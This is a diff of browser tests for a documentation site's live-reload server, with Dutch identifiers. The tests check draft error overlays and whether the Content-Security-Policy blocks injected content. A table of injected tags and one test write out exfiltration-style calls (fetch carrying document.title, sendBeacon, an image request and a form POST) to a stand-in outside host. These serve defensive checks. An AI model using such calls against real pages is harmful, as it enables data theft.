@@ -179,25 +179,25 @@ def test_and_leads_on_without_a_script(browser: Browser, behind_nginx: Archive, 
 # The draft that cannot be built
 
 
-def test_what_is_wrong_with_a_draft_shows_under_the_same_policy(browser: Browser, own: Archive, on_branch: Path) -> None:
-    """The overlay has its look, and the page renews itself, with no code in the page."""
+def test_what_is_wrong_with_a_draft_shows_under_the_same_policy(browser: Browser, own: Archive) -> None:
+    """The overlay has its look, and the page listens for the next build, with no code in the page."""
     wrong = ('docs/doel.md:3: Dit woord is onbekend: "x". Kijk het na. [TAA006]',)
     draft = own.root / serve.DRAFT
-    page_of = livereload.insert((draft / "doel/index.html").read_bytes(), View("fout-1", draft, wrong, ready=True))
-    for name, body in (("fout", page_of), ("wacht", livereload.instead(View("wacht-1")))):
+    # The state that the server tells, or the page would renew itself without end.
+    view = View("gebouwd", draft, wrong, ready=True)
+    shown = {
+        "fout": (livereload.insert((draft / "doel/index.html").read_bytes(), view), ".hb-melding", "position", "fixed"),
+        "wacht": (livereload.instead(replace(view, site=None, wrong=(), ready=False)), ".hb-pagina h1", "fontSize", "26px"),
+    }
+    for name, (body, selector, key, value) in shown.items():
         (own.root / name).mkdir(exist_ok=True)
         (own.root / name / "index.html").write_bytes(body)
-    state = State("fout", "fout/")
-    with watched(browser, own, state) as (page, watch):
-        with page.expect_request(f"**{livereload.EVENTS_ADDRESS}"):
-            page.goto(own.address + "fout/", wait_until="commit")
-        page.locator(".hb-melding summary").wait_for()
-        assert page.locator(".hb-melding").evaluate("node => getComputedStyle(node).position") == "fixed"
-        page.route(f"**{livereload.EVENTS_ADDRESS}", lambda route: route.abort())
-        page.goto(own.address + "wacht/", wait_until="commit")
-        page.locator(".hb-pagina progress").wait_for()
-        assert page.evaluate("getComputedStyle(document.querySelector('.hb-pagina h1')).fontSize") == "26px"
-    assert [text for text in watch.found() if "Failed to load resource" not in text and "EventSource" not in text] == []
+        with watched(browser, own, State(name, f"{name}/")) as (page, watch):
+            with page.expect_request(f"**{livereload.EVENTS_ADDRESS}"):
+                page.goto(f"{own.address}{name}/", wait_until="commit")
+            page.locator(selector).wait_for()
+            assert page.locator(selector).evaluate("(node, key) => getComputedStyle(node)[key]", key) == value
+        assert watch.found() == []
 
 
 # That these tests can fail
@@ -212,9 +212,9 @@ BREACHES = {
     "picture-in-page": ("<img src='data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA='>", "img-src stops data"),
     "sheet": (f"<link rel=stylesheet href={ELSEWHERE}a.css>", f"style-src-elem stops {ELSEWHERE}a.css"),
     "file": (f"<script src={ELSEWHERE}a.js></script>", f"script-src-elem stops {ELSEWHERE}a.js"),
-    "frame": (f"<iframe src={ELSEWHERE}></iframe>", f"frame-src stops {ELSEWHERE}"),
+    "frame": (f"<iframe src={ELSEWHERE}></iframe>", f"frame-src stops {ELSEWHERE[:-1]}"),
     "base": (f"<base href={ELSEWHERE}>", f"base-uri stops {ELSEWHERE}"),
-    "object": (f"<object data={ELSEWHERE}a.swf></object>", f"object-src stops {ELSEWHERE}a.swf"),
+    "object": (f"<object data={ELSEWHERE}a.swf></object>", f"object-src stops {ELSEWHERE[:-1]}"),
     "film": (f"<video src={ELSEWHERE}a.mp4></video>", f"media-src stops {ELSEWHERE}a.mp4"),
 }
 
@@ -247,8 +247,9 @@ def test_a_script_that_got_in_can_send_nothing_away(browser: Browser, behind_ngi
             page.evaluate(f"fetch('{ELSEWHERE}?' + document.title)")
         page.evaluate(f"navigator.sendBeacon('{ELSEWHERE}')")
         page.evaluate(f"document.body.append(Object.assign(new Image(), {{ src: '{ELSEWHERE}b.png' }}))")
-        with pytest.raises(Error):
-            page.evaluate("eval('1 + 1')")
+        # Within the page itself: what a test evaluates is let through.
+        tried = page.evaluate("new Promise(done => setTimeout(() => { try { done(eval('1 + 1')) } catch (error) { done(error.name) } }))")
+        assert tried == "EvalError"
         page.evaluate(
             f"const f = document.createElement('form'); f.action = '{ELSEWHERE}'; f.method = 'post'; document.body.append(f); f.submit()"
         )
